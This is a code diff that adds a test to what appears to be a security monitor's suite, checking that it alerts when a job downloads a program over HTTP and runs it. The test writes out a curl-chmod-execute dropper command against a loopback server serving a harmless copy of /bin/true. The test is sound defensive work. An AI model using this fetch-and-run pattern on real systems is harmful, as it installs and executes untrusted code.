@@ -537,6 +537,44 @@ def test_a_shell_script_is_judged_by_its_lines(stack):
     assert hit["state"] in ("ALERT_KILL_ORDERED", "ALERT_CONFIRMED")
 
 
+def test_a_program_the_job_downloaded_and_ran_is_alerted(stack):
+    """A dropper's two steps, by what they do: the job's curl writes a file (from a server on loopback), the job runs
+    it. Neither exec says anything alone (the file is a copy of /bin/true named w); the collector remembers what the
+    downloader wrote and knows the second exec for it."""
+    job = new_job()
+    cg = job_cgroup(stack, job)
+    served, work = stack["tmp"] / f"served-{job}", stack["tmp"] / f"work-{job}"
+    served.mkdir()
+    work.mkdir()
+    shutil.copy("/bin/true", served / "helper")
+    port = free_port()
+    server = subprocess.Popen([PYTHON, "-u", "-m", "http.server", str(port), "--bind", "127.0.0.1", "--directory",
+                               str(served)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    try:
+        wait_for_text_in_stream(server, "Serving HTTP")
+        run = run_in_cgroup(cg, ["/bin/sh", "-c", f"curl -sf -o w http://127.0.0.1:{port}/helper && chmod +x w && ./w"],
+                            cwd=work, capture_output=True, text=True, timeout=60)
+    finally:
+        server.kill()
+        server.wait(5)
+    assert run.returncode == 0, run.stderr
+    hit = the_alert(stack, job, "downloaded-program-run")
+    said = hit["matched"]["exec_of_download"]
+    assert f"w was written by 'curl -sf -o w http://127.0.0.1:{port}/helper'" in said, said
+
+
+def wait_for_text_in_stream(proc: subprocess.Popen, text: str, timeout_s: float = 20) -> None:
+    """Read a child's output until a line holds ``text`` (its positive signal of readiness)."""
+    deadline = time.monotonic() + timeout_s
+    while time.monotonic() < deadline:
+        line = proc.stdout.readline()
+        if text in line:
+            return
+        if not line and proc.poll() is not None:
+            break
+    raise AssertionError(f"{proc.args[:3]} never said {text!r}")
+
+
 def dial_in(ns, port: int) -> None:
     """A connection from the namespace's host (outside the cluster, with the policy the test applies) to this host."""
     dial = ns.run(PYTHON, "-c", "import socket, sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), "
